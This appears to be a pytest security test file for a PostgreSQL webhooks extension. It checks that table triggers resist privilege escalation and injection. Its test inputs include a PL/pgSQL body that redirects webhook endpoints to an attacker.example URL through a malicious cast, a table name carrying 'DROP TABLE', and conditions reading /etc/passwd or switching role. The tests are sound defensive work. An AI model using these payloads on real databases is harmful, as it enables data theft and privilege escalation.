"""Table triggers attacked: what a table's owner, a tenant administrator or an application's writer
could make the schema owner run, read or queue through them, and writes they could make fail."""

from __future__ import annotations

import threading

import psycopg
import pytest

from tests.integration.test_table_triggers import ORDERS, add_trigger, payloads, plain_login
from tests.support import TEST_KEYRING, add_endpoint, eventually, login_as, query


def endpoint_url(db: str, endpoint: int) -> str:
    [(url,)] = query(db, "SELECT url FROM webhooks.endpoints WHERE id = %s", (endpoint,))
    return str(TEST_KEYRING.open(url, "url", endpoint))


def app_owner(db: str) -> str:
    """A webhooks_admin login that owns schema app, as an application's owner would."""
    owner = login_as(db, "webhooks_test_table_owner", "webhooks_admin")
    query(db, "CREATE SCHEMA app AUTHORIZATION webhooks_test_table_owner")
    return owner


STEAL = ("LANGUAGE plpgsql AS $$ BEGIN UPDATE webhooks.endpoints SET url = 'https://attacker.example/steal';"
         " RETURN {ret}; END $$")


def test_a_column_changed_to_a_type_with_a_cast_of_its_owner_never_runs_it_in_the_condition(db):
    endpoint = add_endpoint(db, "http://127.0.0.1:9/victim", event_types=("mood.*",))
    owner = app_owner(db)
    with psycopg.connect(owner, autocommit=True) as conn:
        conn.execute("CREATE TABLE app.moods (id int PRIMARY KEY, m text)")
        conn.execute("SELECT webhooks.table_trigger_add('moods', 'app.moods', ARRAY['insert'],"
                     " 'mood.changed',"
                     " p_when => 'lower(m) = ''evil''')")
        conn.execute("CREATE TYPE app.mood AS ENUM ('evil', 'calm')")
        conn.execute("CREATE FUNCTION app.mood_text(app.mood) RETURNS text " + STEAL.format(ret="'evil'"))
        conn.execute("CREATE CAST (app.mood AS text) WITH FUNCTION app.mood_text(app.mood) AS IMPLICIT")
        conn.execute("ALTER TABLE app.moods ALTER COLUMN m TYPE app.mood USING m::app.mood")
        conn.execute("INSERT INTO app.moods VALUES (1, 'evil')")
    assert endpoint_url(db, endpoint) == "http://127.0.0.1:9/victim"
    # the write went through; the row is a dead letter saying why
    assert query(db, "SELECT count(*) FROM app.moods") == [(1,)]
    [(status, reason)] = query(db, "SELECT status, dead_letter_reason FROM webhooks.deliveries")
    assert status == "dead_letter"
    assert "a cast of the application's (cast from app.mood to text)" in reason


def test_a_key_of_a_type_with_a_cast_of_its_owner_never_runs_it_in_a_backfill_or_an_invoke(db):
    endpoint = add_endpoint(db, "http://127.0.0.1:9/victim", event_types=("mood.*",))
    owner = app_owner(db)
    query(db, "GRANT USAGE ON SCHEMA app TO CURRENT_USER")
    with psycopg.connect(owner, autocommit=True) as conn:
        conn.execute("CREATE TYPE app.mood AS ENUM ('evil', 'calm')")
        conn.execute("CREATE TABLE app.moods (m app.mood PRIMARY KEY, note text)")
        conn.execute("GRANT SELECT ON app.moods TO PUBLIC")
        conn.execute("INSERT INTO app.moods VALUES ('evil', 'a'), ('calm', 'b')")
        conn.execute("SELECT webhooks.table_trigger_add('moods', 'app.moods', ARRAY['insert'],"
                     " 'mood.changed')")
        conn.execute("CREATE FUNCTION app.text_mood(text) RETURNS app.mood " + STEAL.format(ret="'evil'"))
        conn.execute("CREATE CAST (text AS app.mood) WITH FUNCTION app.text_mood(text)")
        refused = pytest.raises(psycopg.errors.InsufficientPrivilege, match=r"cast from text to app\.mood")
        with refused:
            conn.execute("SELECT webhooks.table_trigger_invoke('moods', 'calm')")
        [(operation,)] = conn.execute("SELECT webhooks.table_trigger_backfill('moods')").fetchall()
        with refused:
            conn.execute("SELECT * FROM webhooks.api_replay_step(%s, 1)", (operation,))
    assert endpoint_url(db, endpoint) == "http://127.0.0.1:9/victim"


def test_a_partitioned_tables_rows_are_backfilled_and_invoked(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("part.*",))
    query(db, "CREATE TABLE public.parts (id int PRIMARY KEY, v text) PARTITION BY RANGE (id)")
    query(db, "CREATE TABLE public.parts_low PARTITION OF public.parts FOR VALUES FROM (0) TO (100)")
    query(db, "CREATE TABLE public.parts_high PARTITION OF public.parts FOR VALUES FROM (100) TO (200)")
    query(db, "INSERT INTO public.parts VALUES (1, 'a'), (150, 'b')")
    query(db, "SELECT webhooks.table_trigger_add('parts', 'public.parts', ARRAY['insert'], 'part.changed')")
    query(db, "INSERT INTO public.parts VALUES (2, 'c')")
    assert query(db, "SELECT webhooks.table_trigger_invoke('parts', '150')") == [(1,)]
    [(operation,)] = query(db, "SELECT webhooks.table_trigger_backfill('parts')")
    assert query(db, "SELECT status, processed FROM webhooks.api_replay_step(%s, 10)", (operation,)) == [
        ("done", 3)]
    assert sorted((p["op"], p["key"]["id"]) for p in payloads(db)) == [
        ("backfill", 1), ("backfill", 2), ("backfill", 150), ("insert", 2), ("manual", 150)]


def test_a_partitioned_table_fires_for_statements_on_it_and_says_a_partition_named_fires_nothing(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("part.*",))
    query(db, "CREATE TABLE public.parts (id int PRIMARY KEY, v text) PARTITION BY RANGE (id)")
    query(db, "CREATE TABLE public.parts_low PARTITION OF public.parts FOR VALUES FROM (0) TO (100)")
    notices: list[str] = []
    with psycopg.connect(db, autocommit=True) as conn:
        conn.add_notice_handler(lambda diagnostic: notices.append(diagnostic.message_primary))
        conn.execute("SELECT webhooks.table_trigger_add('parts', 'public.parts', ARRAY['insert'],"
                     " 'part.changed')")
    assert notices == ["table public.parts: partitioned: statements on public.parts fire the trigger, with"
                       " the rows they route to its partitions; a statement that names a partition fires"
                       " nothing"]
    query(db, "INSERT INTO public.parts VALUES (1, 'through the parent')")
    query(db, "INSERT INTO public.parts_low VALUES (2, 'to the partition')")
    assert [(p["op"], p["key"]["id"], p["table"]["name"]) for p in payloads(db)] == [("insert", 1, "parts")]


def test_a_dropped_primary_key_never_fails_the_write_nor_merges_rows(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    add_trigger(db, on=("insert",))
    query(db, "ALTER TABLE public.orders DROP CONSTRAINT orders_pkey")
    query(db, "ALTER TABLE public.orders ALTER COLUMN id DROP NOT NULL")
    query(db, "INSERT INTO public.orders (id, status) VALUES (NULL, 'a'), (NULL, 'b'), (1, 'c'), (1, 'd')")
    assert query(db, "SELECT count(*) FROM public.orders") == [(4,)]
    rows = query(db, "SELECT status, dead_letter_reason FROM webhooks.deliveries")
    assert len(rows) == 4 and {status for status, _ in rows} == {"dead_letter"}
    assert "primary key is no longer the one it had" in rows[0][1]


def test_a_dropped_key_column_never_merges_a_statements_rows(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    add_trigger(db, on=("insert",))
    query(db, "ALTER TABLE public.orders DROP COLUMN id")
    query(db, "INSERT INTO public.orders (status) VALUES ('a'), ('b')")
    assert query(db, "SELECT count(*) FROM public.orders") == [(2,)]
    assert query(db, "SELECT status, count(*) FROM webhooks.deliveries GROUP BY 1") == [("dead_letter", 2)]


@pytest.mark.parametrize("call", [
    "SELECT webhooks.table_trigger_queue(t, 'insert', ARRAY['{\"id\": 1}'::jsonb], NULL, 'x', 'public',"
    " 'orders') FROM webhooks.table_triggers t",
    "SELECT * FROM webhooks.table_trigger_backfill_step(1, 10)",
    "SELECT webhooks.table_trigger_register('x', 'public.orders'::regclass, ARRAY['insert'], 'order.x', NULL,"
    " NULL, NULL, NULL, NULL, NULL)",
    "SELECT webhooks.table_trigger_add('x', 'public.orders', ARRAY['insert'], 'order.x')",
    "SELECT webhooks.table_trigger_unregister('orders')",
    "SELECT webhooks.table_trigger_set_enabled('orders', false)",
    "SELECT webhooks.table_trigger_backfill_start('orders', NULL, NULL, NULL)",
    "SELECT webhooks.table_trigger_invoke('orders', '1')",
])
@pytest.mark.parametrize("who", ["writer", "tenant_admin"])
def test_a_writer_or_a_tenant_administrator_calls_none_of_the_owners_functions(db, call, who):
    query(db, ORDERS)
    add_trigger(db, on=("insert",))
    if who == "writer":
        dsn = plain_login(db, "webhooks_test_app_writer")
        query(db, "GRANT ALL ON public.orders TO webhooks_test_app_writer")
    else:
        dsn = login_as(db, "webhooks_test_trigger_tenant_admin", "webhooks_tenant_admin")
        query(db, "GRANT ALL ON public.orders TO webhooks_test_trigger_tenant_admin")
    with psycopg.connect(dsn, autocommit=True) as conn, pytest.raises(psycopg.errors.InsufficientPrivilege):
        conn.execute(call)
    assert query(db, "SELECT count(*) FROM webhooks.table_triggers") == [(1,)]


@pytest.mark.parametrize("table", [
    "webhooks.endpoints", "webhooks.table_triggers", "pg_catalog.pg_authid", "information_schema.sql_parts",
    "public.orders_view", "public.victim",
])
def test_an_admin_adds_no_trigger_to_a_table_it_may_not(db, table):
    query(db, ORDERS)
    query(db, "CREATE VIEW public.orders_view AS SELECT * FROM public.orders")
    query(db, "CREATE TABLE public.victim (id int PRIMARY KEY)")
    query(db, "GRANT TRIGGER ON public.orders_view TO PUBLIC")
    admin = login_as(db, "webhooks_test_trigger_admin", "webhooks_admin")
    with psycopg.connect(admin, autocommit=True) as conn, pytest.raises(psycopg.Error):
        conn.execute("SELECT webhooks.table_trigger_add('x', %s, ARRAY['insert'], 'order.x')", (table,))
    assert query(db, "SELECT count(*) FROM webhooks.table_triggers") == [(0,)]
    assert query(db, "SELECT count(*) FROM pg_trigger WHERE tgname LIKE 'webhooks\\_%'") == [(0,)]


def test_an_admin_adds_no_trigger_to_its_own_temporary_table(db):
    admin = login_as(db, "webhooks_test_trigger_admin", "webhooks_admin")
    with psycopg.connect(admin, autocommit=True) as conn:
        conn.execute("CREATE TEMPORARY TABLE scratch (id int PRIMARY KEY)")
        [(schema,)] = conn.execute("SELECT nspname FROM pg_namespace"
                                   " WHERE oid = pg_my_temp_schema()").fetchall()
        with pytest.raises(psycopg.Error, match="application's own tables"):
            conn.execute("SELECT webhooks.table_trigger_add('x', %s, ARRAY['insert'], 'order.x')",
                         (f"{schema}.scratch",))


def test_names_with_quotes_dots_and_unicode_work_and_injected_nothing(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("odd.*",))
    schema, table = 'Sch"em.a', 'tä"ble; DROP TABLE x'
    query(db, f'CREATE SCHEMA "{schema.replace(chr(34), chr(34) * 2)}"')
    qualified = '"{}"."{}"'.format(schema.replace('"', '""'), table.replace('"', '""'))
    long_column = "ç" * 31  # 62 bytes
    query(db, f'CREATE TABLE {qualified} ("i""d" int PRIMARY KEY, "se.cret" text, "{long_column}" text,'
              ' "St""at" text)')
    query(db, "SELECT webhooks.table_trigger_add('odd.name-1', %s, ARRAY['insert', 'update'],"
              " 'odd.changed',"
              " p_exclude_columns => ARRAY['se.cret'], p_columns => ARRAY['St\"at'],"
              " p_when => '\"St\"\"at\" <> ''skip''')", (qualified,))
    query(db, f"INSERT INTO {qualified} VALUES (1, 'hidden', 'x', 'go'), (2, 'hidden', 'y', 'skip')")
    query(db, f'UPDATE {qualified} SET "St""at" = \'went\' WHERE "i""d" = 1')
    query(db, f'ALTER TABLE {qualified} RENAME COLUMN "St""at" TO "ñ.st"')
    query(db, f'UPDATE {qualified} SET "ñ.st" = \'again\' WHERE "i""d" = 1')
    got = payloads(db)
    assert [(p["op"], p["key"], p["changed"]) for p in got] == [
        ("insert", {'i"d': 1}, []), ("update", {'i"d': 1}, ['St"at']), ("update", {'i"d': 1}, ["ñ.st"])]
    assert got[0]["table"] == {"schema": schema, "name": table}
    assert all("se.cret" not in p["new"] and "hidden" not in str(p) for p in got)
    assert got[0]["new"][long_column] == "x"


def test_a_condition_reaches_nothing_but_the_row(db: str) -> None:
    query(db, ORDERS)
    for condition in ("current_setting('role') = 'x'", "(SELECT true)", "pg_read_file('/etc/passwd') <> ''",
                      "now() > '2020-01-01'", "amount > 0 AND (SELECT count(*) FROM webhooks.endpoints) > 0",
                      "webhooks.acting_role() = 'x'",
                      "status = ANY (ARRAY(SELECT url FROM webhooks.endpoints))",
                      "set_config('role', 'postgres', false) = ''", "random() > 0.5"):
        with pytest.raises(psycopg.Error):
            add_trigger(db, when=condition)
        assert query(db, "SELECT count(*) FROM webhooks.table_triggers") == [(0,)], condition




def test_odd_values_never_fail_the_write(db):
    endpoint = add_endpoint(db, "http://127.0.0.1:9/o", event_types=("odd.*",))
    query(db, "CREATE DOMAIN public.positive AS numeric CHECK (VALUE > 0)")
    query(db, "CREATE TABLE public.odd (id int PRIMARY KEY, doc json, n numeric, f float8, p public.positive,"
              " tags text[][], twice int GENERATED ALWAYS AS (id * 2) STORED, big text)")
    query(db, "SELECT webhooks.table_trigger_add('odd', 'public.odd', ARRAY['insert', 'update'],"
              " 'odd.changed',"
              " p_exclude_columns => ARRAY['big'])")
    query(db, "INSERT INTO public.odd (id, doc, n, f, p, tags, big) VALUES"
              " (1, '{\"a\": \"\\u0000\", \"a\": 1}', 'NaN', 'Infinity', 1, '{{a,b},{c,d}}', NULL),"
              " (2, '[1e400]', 1, '-Infinity', 2, NULL, repeat(md5('x'), 200000))")
    query(db, "UPDATE public.odd SET big = repeat('y', 10)")
    assert query(db, "SELECT count(*) FROM public.odd") == [(2,)]
    rows = query(db, "SELECT payload, status, dead_letter_reason FROM webhooks.deliveries"
                     " WHERE webhook_id = %s ORDER BY delivery_id", (endpoint,))
    assert len(rows) == 2  # the update changed an excluded column only
    assert all("big" not in str(payload) and "y" * 10 not in str(reason) for payload, _, reason in rows)
    by_key = {payload["key"]["id"]: payload for payload, _, _ in rows}
    # a json value jsonb cannot hold goes as its text, the other values as JSON
    assert by_key[1]["new"]["doc"] == '{"a": "\\u0000", "a": 1}'
    assert (by_key[1]["new"]["n"], by_key[1]["new"]["f"], by_key[1]["new"]["twice"]) == ("NaN", "Infinity", 2)
    assert len(by_key[2]["new"]["doc"]) == 1


def test_columns_named_as_the_row_variables_are_columns_not_the_row(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("nt.*",))
    query(db, "CREATE TABLE public.nt (id int PRIMARY KEY, n numeric, t text, secret text)")
    query(db, "INSERT INTO public.nt VALUES (1, 5, 'old', 's1')")
    query(db, "SELECT webhooks.table_trigger_add('nt', 'public.nt', ARRAY['insert'], 'nt.changed',"
              " p_exclude_columns => ARRAY['secret'])")
    query(db, "INSERT INTO public.nt VALUES (2, 'NaN', 'x', 's2')")
    query(db, "SELECT webhooks.table_trigger_invoke('nt', '1')")
    [(operation,)] = query(db, "SELECT webhooks.table_trigger_backfill('nt')")
    query(db, "SELECT * FROM webhooks.api_replay_step(%s, 10)", (operation,))
    assert sorted((p["op"], p["key"]["id"], p["new"]["t"]) for p in payloads(db)) == [
        ("backfill", 1, "old"), ("backfill", 2, "x"), ("insert", 2, "x"), ("manual", 1, "old")]
    assert all(set(p["new"]) == {"id", "n", "t"} for p in payloads(db))


def test_readmes_statement_trigger_sends_the_row_of_a_table_with_a_column_named_t(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("t.*",))
    query(db, "CREATE TABLE public.tt (id int PRIMARY KEY, t text)")
    query(db, "CREATE TRIGGER tt_webhooks AFTER INSERT ON public.tt REFERENCING NEW TABLE AS webhooks_new"
              " FOR EACH STATEMENT EXECUTE FUNCTION webhooks.observer_queue_alert('t.created', 'id')")
    query(db, "INSERT INTO public.tt VALUES (1, 'one')")
    assert payloads(db) == [{"id": 1, "t": "one"}]


def test_an_excluded_tenant_column_never_shows_its_value_in_a_dead_letter(db):
    endpoint = add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    add_trigger(db, tenant_column="tenant", exclude_columns=["tenant", "card_token"])
    query(db, "INSERT INTO public.orders (id, tenant, card_token) VALUES (1, 'tok_secret_tenant',"
              " 'tok_secret')")
    [(payload, status, reason)] = query(db, "SELECT payload, status, dead_letter_reason"
                                            " FROM webhooks.deliveries WHERE webhook_id = %s", (endpoint,))
    assert status == "dead_letter" and "secret" not in reason + str(payload)
    assert reason == "row public.orders (id)=(1) names a tenant that does not exist (column tenant)"


def test_concurrent_backfills_of_one_trigger_start_one(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    query(db, "INSERT INTO public.orders (id) SELECT generate_series(1, 20)")
    add_trigger(db, on=("insert",))
    outcome: list[object] = []
    with psycopg.connect(db) as first, psycopg.connect(db, autocommit=True) as second:
        first.execute("SELECT webhooks.table_trigger_backfill('orders')")

        def start() -> None:
            try:
                outcome.append(second.execute("SELECT webhooks.table_trigger_backfill('orders')").fetchone())
            except psycopg.Error as error:
                outcome.append(error)

        racer = threading.Thread(target=start)
        racer.start()
        # the second waits on the trigger's row until the first commits
        eventually(lambda: query(db, "SELECT count(*) FROM pg_stat_activity WHERE wait_event_type = 'Lock'"
                                     " AND query LIKE '%table_trigger_backfill%'") == [(1,)])
        first.commit()
        racer.join(timeout=60)
    assert len(outcome) == 1 and isinstance(outcome[0], psycopg.errors.ObjectInUse)
    assert query(db, "SELECT count(*) FROM webhooks.api_operations WHERE kind = 'trigger_backfill'") == [(1,)]


def test_backfill_and_invoke_read_nothing_their_caller_may_not_select(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    query(db, "INSERT INTO public.orders (id, card_token) VALUES (1, 'tok_secret')")
    admin = login_as(db, "webhooks_test_trigger_admin", "webhooks_admin")
    query(db, "GRANT TRIGGER ON public.orders TO webhooks_test_trigger_admin")
    with psycopg.connect(admin, autocommit=True) as conn:
        conn.execute("SELECT webhooks.table_trigger_add('orders', 'public.orders', ARRAY['insert'],"
                     " 'order.changed')")
        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="SELECT"):
            conn.execute("SELECT webhooks.table_trigger_invoke('orders', '1')")
        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="SELECT"):
            conn.execute("SELECT webhooks.table_trigger_backfill('orders')")
    assert query(db, "SELECT count(*) FROM webhooks.alert_delivery_queue") == [(0,)]
    query(db, "GRANT SELECT ON public.orders TO webhooks_test_trigger_admin")
    with psycopg.connect(admin, autocommit=True) as conn:
        assert conn.execute("SELECT webhooks.table_trigger_invoke('orders', '1')").fetchone() == (1,)


def test_a_when_condition_failing_on_a_row_never_fails_the_write_nor_quotes_the_row(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    add_trigger(db, when="card_token::int > 0 AND 100 / amount > 1", exclude_columns=["card_token"])
    query(db, "INSERT INTO public.orders (id, amount, card_token) VALUES (1, 0, '5'), (2, 1, 'tok_secret')")
    assert query(db, "SELECT count(*) FROM public.orders") == [(2,)]
    rows = query(db, "SELECT status, failure_category, dead_letter_reason, payload FROM webhooks.deliveries")
    assert [(status, category) for status, category, _, _ in rows] == [("dead_letter", "internal")] * 2
    for _, _, reason, payload in rows:
        assert "failed on a row of this statement (SQLSTATE 22" in reason, reason
        assert "secret" not in reason + str(payload)


def test_a_backfill_whose_condition_fails_on_a_row_says_so_without_the_rows_values(db):
    add_endpoint(db, "http://127.0.0.1:9/o", event_types=("order.*",))
    query(db, ORDERS)
    add_trigger(db, exclude_columns=["card_token"])
    query(db, "INSERT INTO public.orders (id, card_token) VALUES (1, 'tok_secret')")
    [(operation,)] = query(db, "SELECT webhooks.table_trigger_backfill('orders',"
                               " p_where => 'card_token::int > 0')")
    with pytest.raises(psycopg.errors.InvalidTextRepresentation) as refused:
        query(db, "SELECT webhooks.table_trigger_backfill_step(%s, 100)", (operation,))
    said = str(refused.value)
    assert "its where or when condition failed on a row (SQLSTATE 22P02)" in said and "secret" not in said


@pytest.mark.parametrize("rate", ["NaN", "Infinity", "0.0001", "100001"])
def test_a_backfill_rate_outside_its_bounds_is_refused(db, rate):
    query(db, ORDERS)
    add_trigger(db)
    with pytest.raises(psycopg.errors.InvalidParameterValue, match=r"from 0\.001 to 100000"):
        query(db, "SELECT webhooks.table_trigger_backfill('orders', p_rate => %s::float8)", (rate,))
    assert query(db, "SELECT count(*) FROM webhooks.api_operations") == [(0,)]
